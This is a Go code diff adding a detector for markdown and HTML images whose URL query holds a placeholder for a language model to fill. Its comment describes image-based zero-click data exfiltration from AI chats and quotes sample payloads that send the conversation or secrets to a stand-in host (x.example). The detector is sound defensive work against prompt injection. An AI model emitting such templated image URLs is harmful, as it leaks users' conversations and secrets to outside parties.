@@ -126,3 +126,73 @@ func readable(s string, whole bool) bool {
 	}
 	return 2*letters >= n && (!whole || spaces > 0)
 }
+
+// templatedURL finds an image (markdown's ![…](url), HTML's src="url") whose URL has a slot in its query
+// for the model to fill ("![](https://x.example/log?d={conversation})", "?q=[DATA]", "?s=$SECRET",
+// "?c=<summary>"): rendered, the image sends whatever the model wrote there to that host, with no click.
+// An image with real values in its query, or a link, is no such thing.
+func templatedURL(text string) (start, end int, ok bool) {
+	for from := 0; from < len(text); {
+		i := strings.Index(text[from:], "![")
+		j := strings.Index(text[from:], "src=")
+		if i < 0 && j < 0 {
+			break
+		}
+		u := -1
+		switch {
+		case i >= 0 && (j < 0 || i < j):
+			at := from + i
+			from = at + 2
+			if k := strings.Index(text[at:min(len(text), at+500)], "]("); k > 0 {
+				u = at + k + 2
+			}
+		default:
+			at := from + j + len("src=")
+			from = at
+			if at < len(text) && (text[at] == '"' || text[at] == '\'') {
+				u = at + 1
+			}
+		}
+		if u < 0 || !strings.HasPrefix(text[u:], "http") {
+			continue
+		}
+		e := u
+		for e < len(text) && text[e] > ' ' && text[e] != ')' && text[e] != '"' && text[e] != '\'' {
+			e++
+		}
+		if q := strings.IndexByte(text[u:e], '?'); q >= 0 {
+			// A slot may hold spaces ("<summary of the chat>"): its closer is looked for up to the line's end.
+			line := text[u+q : min(len(text), e+100)]
+			if n := strings.IndexByte(line, '\n'); n >= 0 {
+				line = line[:n]
+			}
+			if hasSlot(line, e-(u+q)) {
+				return u, e, true
+			}
+		}
+	}
+	return 0, 0, false
+}
+
+// hasSlot reports whether a query (its first n bytes; the rest of the line after them) opens a
+// placeholder: a braced, bracketed or angled name, a $NAME, or a percent-encoded brace.
+func hasSlot(query string, n int) bool {
+	for i := 0; i < n; i++ {
+		switch c := query[i]; c {
+		case '{', '[', '<':
+			closer := map[byte]byte{'{': '}', '[': ']', '<': '>'}[c]
+			if j := strings.IndexByte(query[i+1:], closer); j > 0 {
+				return true
+			}
+		case '$':
+			if i+1 < len(query) && (query[i+1] >= 'A' && query[i+1] <= 'Z' || query[i+1] == '{') {
+				return true
+			}
+		case '%':
+			if len(query) >= i+3 && strings.EqualFold(query[i:i+3], "%7B") {
+				return true
+			}
+		}
+	}
+	return false
+}
